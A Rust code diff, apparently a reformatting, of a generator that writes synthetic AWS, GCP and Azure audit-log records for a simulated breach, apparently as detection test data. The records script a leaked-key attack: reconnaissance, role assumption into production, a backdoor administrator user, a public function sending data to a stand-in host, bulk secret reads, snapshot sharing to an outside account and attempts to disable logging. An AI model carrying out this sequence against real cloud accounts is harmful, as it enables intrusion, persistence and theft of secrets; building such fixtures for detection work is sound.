@@ -24,78 +24,279 @@ pub const OUTSIDE_ACCOUNT: &str = "999900001111";
 pub fn records(rng: &mut Rng, start: i64) -> Vec<(Cloud, String, Value)> {
     let mut out = Vec::new();
     let ci = iam_user(CI_ACCOUNT, CI_USER, CI_KEY);
-    let mut aws = |rng: &mut Rng, minute: i64, account: &str, who: &Value, source: &str, name: &str, read_only: bool, request: Value, response: Value, error: Option<(&str, &str)>| {
+    let mut aws = |rng: &mut Rng,
+                   minute: i64,
+                   account: &str,
+                   who: &Value,
+                   source: &str,
+                   name: &str,
+                   read_only: bool,
+                   request: Value,
+                   response: Value,
+                   error: Option<(&str, &str)>| {
         let time = start + minute * MINUTE + rng.below(50_000_000) as i64;
         let record = cloudtrail(
             rng,
-            AwsCall { time, account, region: "us-east-1", who, source, name, read_only, request, response, error, ip: ATTACKER_IP, agent: ATTACKER_AGENT },
+            AwsCall {
+                time,
+                account,
+                region: "us-east-1",
+                who,
+                source,
+                name,
+                read_only,
+                request,
+                response,
+                error,
+                ip: ATTACKER_IP,
+                agent: ATTACKER_AGENT,
+            },
         );
         out.push((Cloud::Aws, account.to_string(), record));
     };
     // Reconnaissance with the leaked key, from an address the key never used.
     let recon = [
-        ("sts", "GetCallerIdentity"), ("iam", "ListUsers"), ("iam", "ListRoles"), ("iam", "ListAttachedUserPolicies"),
-        ("iam", "ListAccessKeys"), ("iam", "GetAccountAuthorizationDetails"), ("s3", "ListBuckets"), ("ec2", "DescribeInstances"),
-        ("ec2", "DescribeSecurityGroups"), ("ec2", "DescribeSnapshots"), ("lambda", "ListFunctions20150331"), ("secretsmanager", "ListSecrets"),
-        ("cloudtrail", "DescribeTrails"), ("kms", "ListKeys"), ("rds", "DescribeDBInstances"), ("organizations", "DescribeOrganization"),
+        ("sts", "GetCallerIdentity"),
+        ("iam", "ListUsers"),
+        ("iam", "ListRoles"),
+        ("iam", "ListAttachedUserPolicies"),
+        ("iam", "ListAccessKeys"),
+        ("iam", "GetAccountAuthorizationDetails"),
+        ("s3", "ListBuckets"),
+        ("ec2", "DescribeInstances"),
+        ("ec2", "DescribeSecurityGroups"),
+        ("ec2", "DescribeSnapshots"),
+        ("lambda", "ListFunctions20150331"),
+        ("secretsmanager", "ListSecrets"),
+        ("cloudtrail", "DescribeTrails"),
+        ("kms", "ListKeys"),
+        ("rds", "DescribeDBInstances"),
+        ("organizations", "DescribeOrganization"),
     ];
     for (i, (source, name)) in recon.iter().enumerate() {
-        let denied = matches!(*name, "GetAccountAuthorizationDetails" | "DescribeOrganization" | "ListSecrets");
-        let error = denied.then_some(("AccessDenied", "User: arn:aws:iam::356789012345:user/ci-deployer is not authorized to perform this action"));
-        aws(rng, i as i64 / 2, CI_ACCOUNT, &ci, source, name, true, json!({}), Value::Null, error);
+        let denied = matches!(
+            *name,
+            "GetAccountAuthorizationDetails" | "DescribeOrganization" | "ListSecrets"
+        );
+        let error = denied.then_some((
+            "AccessDenied",
+            "User: arn:aws:iam::356789012345:user/ci-deployer is not authorized to perform this action",
+        ));
+        aws(
+            rng,
+            i as i64 / 2,
+            CI_ACCOUNT,
+            &ci,
+            source,
+            name,
+            true,
+            json!({}),
+            Value::Null,
+            error,
+        );
     }
     // It keeps trying what it may not do.
     for i in 0..11 {
-        aws(rng, 9 + i, CI_ACCOUNT, &ci, "iam", "CreateUser", false, json!({"userName": format!("admin{i}")}), Value::Null,
-            Some(("AccessDenied", "User: arn:aws:iam::356789012345:user/ci-deployer is not authorized to perform: iam:CreateUser")));
+        aws(
+            rng,
+            9 + i,
+            CI_ACCOUNT,
+            &ci,
+            "iam",
+            "CreateUser",
+            false,
+            json!({"userName": format!("admin{i}")}),
+            Value::Null,
+            Some((
+                "AccessDenied",
+                "User: arn:aws:iam::356789012345:user/ci-deployer is not authorized to perform: iam:CreateUser",
+            )),
+        );
     }
     // The hop into production.
     let session_arn = format!("arn:aws:sts::{PROD_ACCOUNT}:assumed-role/{ROLE}/{SESSION}");
-    aws(rng, 17, CI_ACCOUNT, &ci, "sts", "AssumeRole", true,
+    aws(
+        rng,
+        17,
+        CI_ACCOUNT,
+        &ci,
+        "sts",
+        "AssumeRole",
+        true,
         json!({"roleArn": format!("arn:aws:iam::{PROD_ACCOUNT}:role/{ROLE}"), "roleSessionName": SESSION, "durationSeconds": 3600}),
         json!({"credentials": {"accessKeyId": "ASIA7PRODSESSION8841", "sessionToken": "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDdemo",
                                "secretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY", "expiration": "Oct 30, 2026, 11:31:00 PM"},
                "assumedRoleUser": {"assumedRoleId": "AROA7DEPLOYADMIN00001:ci-deployer-8841", "arn": session_arn}}),
-        None);
+        None,
+    );
     let session = assumed_role(PROD_ACCOUNT, ROLE, SESSION, "ASIA7PRODSESSION8841");
     let p = PROD_ACCOUNT;
-    aws(rng, 20, p, &session, "iam", "CreateUser", false, json!({"userName": BACKDOOR_USER}), json!({"user": {"userName": BACKDOOR_USER}}), None);
-    aws(rng, 21, p, &session, "iam", "CreateAccessKey", false, json!({"userName": BACKDOOR_USER}),
-        json!({"accessKey": {"accessKeyId": "AKIA7BACKUPSYNC00001", "status": "Active", "userName": BACKDOOR_USER}}), None);
-    aws(rng, 22, p, &session, "iam", "AttachUserPolicy", false,
-        json!({"userName": BACKDOOR_USER, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}), Value::Null, None);
-    aws(rng, 26, p, &session, "lambda", "CreateFunction20150331", false,
+    aws(
+        rng,
+        20,
+        p,
+        &session,
+        "iam",
+        "CreateUser",
+        false,
+        json!({"userName": BACKDOOR_USER}),
+        json!({"user": {"userName": BACKDOOR_USER}}),
+        None,
+    );
+    aws(
+        rng,
+        21,
+        p,
+        &session,
+        "iam",
+        "CreateAccessKey",
+        false,
+        json!({"userName": BACKDOOR_USER}),
+        json!({"accessKey": {"accessKeyId": "AKIA7BACKUPSYNC00001", "status": "Active", "userName": BACKDOOR_USER}}),
+        None,
+    );
+    aws(
+        rng,
+        22,
+        p,
+        &session,
+        "iam",
+        "AttachUserPolicy",
+        false,
+        json!({"userName": BACKDOOR_USER, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
+        Value::Null,
+        None,
+    );
+    aws(
+        rng,
+        26,
+        p,
+        &session,
+        "lambda",
+        "CreateFunction20150331",
+        false,
         json!({"functionName": FUNCTION, "runtime": "python3.12", "handler": "app.handler", "role": format!("arn:aws:iam::{p}:role/{FUNCTION}-exec")}),
-        json!({"functionName": FUNCTION, "functionArn": format!("arn:aws:lambda:us-east-1:{p}:function:{FUNCTION}")}), None);
-    aws(rng, 27, p, &session, "lambda", "UpdateFunctionConfiguration20150331v2", false,
-        json!({"functionName": FUNCTION, "environment": {"variables": {"SYNC_URL": "https://203.0.113.66/collect"}}}), Value::Null, None);
-    aws(rng, 28, p, &session, "lambda", "AddPermission20150331v2", false,
-        json!({"functionName": FUNCTION, "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"}), Value::Null, None);
+        json!({"functionName": FUNCTION, "functionArn": format!("arn:aws:lambda:us-east-1:{p}:function:{FUNCTION}")}),
+        None,
+    );
+    aws(
+        rng,
+        27,
+        p,
+        &session,
+        "lambda",
+        "UpdateFunctionConfiguration20150331v2",
+        false,
+        json!({"functionName": FUNCTION, "environment": {"variables": {"SYNC_URL": "https://203.0.113.66/collect"}}}),
+        Value::Null,
+        None,
+    );
+    aws(
+        rng,
+        28,
+        p,
+        &session,
+        "lambda",
+        "AddPermission20150331v2",
+        false,
+        json!({"functionName": FUNCTION, "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"}),
+        Value::Null,
+        None,
+    );
     for i in 0..24 {
-        aws(rng, 32 + i / 4, p, &session, "secretsmanager", "GetSecretValue", true, json!({"secretId": format!("prod/payments/{}", ["db", "stripe", "adyen", "smtp", "hmac", "jwt"][i as usize % 6]).to_string() + &format!("-{}", i / 6)}), Value::Null, None);
+        aws(
+            rng,
+            32 + i / 4,
+            p,
+            &session,
+            "secretsmanager",
+            "GetSecretValue",
+            true,
+            json!({"secretId": format!("prod/payments/{}", ["db", "stripe", "adyen", "smtp", "hmac", "jwt"][i as usize % 6]).to_string() + &format!("-{}", i / 6)}),
+            Value::Null,
+            None,
+        );
     }
-    aws(rng, 40, p, &session, "ec2", "ModifySnapshotAttribute", false,
+    aws(
+        rng,
+        40,
+        p,
+        &session,
+        "ec2",
+        "ModifySnapshotAttribute",
+        false,
         json!({"snapshotId": "snap-0a1b2c3d4e5f60718", "attributeType": "CREATE_VOLUME_PERMISSION",
                "createVolumePermission": {"add": {"items": [{"userId": OUTSIDE_ACCOUNT}]}}}),
-        json!({"_return": true}), None);
-    aws(rng, 44, p, &session, "cloudtrail", "StopLogging", false, json!({"name": format!("arn:aws:cloudtrail:us-east-1:{p}:trail/org-trail")}), Value::Null,
-        Some(("AccessDenied", "User: arn:aws:sts::210987654321:assumed-role/DeployAdmin/ci-deployer-8841 is not authorized to perform: cloudtrail:StopLogging because an organization policy denies it")));
-    aws(rng, 45, p, &session, "ec2", "DeleteFlowLogs", false,
-        json!({"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0c1d2e3f4a5b6c7d8"}}}), Value::Null, None);
+        json!({"_return": true}),
+        None,
+    );
+    aws(
+        rng,
+        44,
+        p,
+        &session,
+        "cloudtrail",
+        "StopLogging",
+        false,
+        json!({"name": format!("arn:aws:cloudtrail:us-east-1:{p}:trail/org-trail")}),
+        Value::Null,
+        Some((
+            "AccessDenied",
+            "User: arn:aws:sts::210987654321:assumed-role/DeployAdmin/ci-deployer-8841 is not authorized to perform: cloudtrail:StopLogging because an organization policy denies it",
+        )),
+    );
+    aws(
+        rng,
+        45,
+        p,
+        &session,
+        "ec2",
+        "DeleteFlowLogs",
+        false,
+        json!({"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0c1d2e3f4a5b6c7d8"}}}),
+        Value::Null,
+        None,
+    );
 
     // GCP: the CI service account's key deploys and opens up a Cloud Function.
     let function = format!("projects/{GCP_PROJECT}/locations/us-central1/functions/{FUNCTION}");
-    let key = format!("//iam.googleapis.com/projects/acme-ci-build/serviceAccounts/{GCP_DEPLOYER}/keys/7f3e2d1c0b9a8877");
+    let key =
+        format!("//iam.googleapis.com/projects/acme-ci-build/serviceAccounts/{GCP_DEPLOYER}/keys/7f3e2d1c0b9a8877");
     for (minute, method, request) in [
-        (50, "google.cloud.functions.v2.FunctionService.CreateFunction", json!({"functionId": FUNCTION, "parent": format!("projects/{GCP_PROJECT}/locations/us-central1")})),
-        (52, "google.cloud.functions.v2.FunctionService.UpdateFunction", json!({"function": {"name": function.clone(), "serviceConfig": {"environmentVariables": {"SYNC_URL": "https://203.0.113.66/collect"}}}})),
-        (53, "google.cloud.functions.v1.CloudFunctionsService.SetIamPolicy", json!({"policy": {"bindings": [{"role": "roles/cloudfunctions.invoker", "members": ["allUsers"]}]}})),
+        (
+            50,
+            "google.cloud.functions.v2.FunctionService.CreateFunction",
+            json!({"functionId": FUNCTION, "parent": format!("projects/{GCP_PROJECT}/locations/us-central1")}),
+        ),
+        (
+            52,
+            "google.cloud.functions.v2.FunctionService.UpdateFunction",
+            json!({"function": {"name": function.clone(), "serviceConfig": {"environmentVariables": {"SYNC_URL": "https://203.0.113.66/collect"}}}}),
+        ),
+        (
+            53,
+            "google.cloud.functions.v1.CloudFunctionsService.SetIamPolicy",
+            json!({"policy": {"bindings": [{"role": "roles/cloudfunctions.invoker", "members": ["allUsers"]}]}}),
+        ),
     ] {
         let entry = gcp_entry(
             rng,
-            GcpCall { time: start + minute * MINUTE, project: GCP_PROJECT, principal: GCP_DEPLOYER, service: "cloudfunctions.googleapis.com", method,
-                      resource_name: function.clone(), resource_type: "cloud_function", location: "us-central1", read: false, denied: false,
-                      ip: ATTACKER_IP, agent: ATTACKER_AGENT, request, key: Some(&key) },
+            GcpCall {
+                time: start + minute * MINUTE,
+                project: GCP_PROJECT,
+                principal: GCP_DEPLOYER,
+                service: "cloudfunctions.googleapis.com",
+                method,
+                resource_name: function.clone(),
+                resource_type: "cloud_function",
+                location: "us-central1",
+                read: false,
+                denied: false,
+                ip: ATTACKER_IP,
+                agent: ATTACKER_AGENT,
+                request,
+                key: Some(&key),
+            },
         );
         out.push((Cloud::Gcp, GCP_PROJECT.to_string(), entry));
     }
@@ -105,10 +306,20 @@ pub fn records(rng: &mut Rng, start: i64) -> Vec<(Cloud, String, Value)> {
     for (offset, result, signature) in [(0, "Start", "Started."), (2_000_000, "Success", "Succeeded.Created")] {
         let mut record = azure_record(
             rng,
-            AzureCall { time: start + 70 * MINUTE + offset, subscription: AZURE_SUBSCRIPTION,
-                        resource: "PROVIDERS/MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/6F2A9C1E-3B4D-4E5F-8A7B-9C0D1E2F3A4B".into(),
-                        operation: "Microsoft.Authorization/roleAssignments/write", result, signature, caller_upn: None,
-                        caller_app: Some(AZURE_APPS[0]), ip: ATTACKER_IP, location: "global", correlation: correlation.clone() },
+            AzureCall {
+                time: start + 70 * MINUTE + offset,
+                subscription: AZURE_SUBSCRIPTION,
+                resource: "PROVIDERS/MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/6F2A9C1E-3B4D-4E5F-8A7B-9C0D1E2F3A4B"
+                    .into(),
+                operation: "Microsoft.Authorization/roleAssignments/write",
+                result,
+                signature,
+                caller_upn: None,
+                caller_app: Some(AZURE_APPS[0]),
+                ip: ATTACKER_IP,
+                location: "global",
+                correlation: correlation.clone(),
+            },
         );
         // Who was made Owner is in the request body, as Azure records it.
         record["properties"]["requestbody"] = json!({"Id": "6f2a9c1e-3b4d-4e5f-8a7b-9c0d1e2f3a4b", "Properties": {
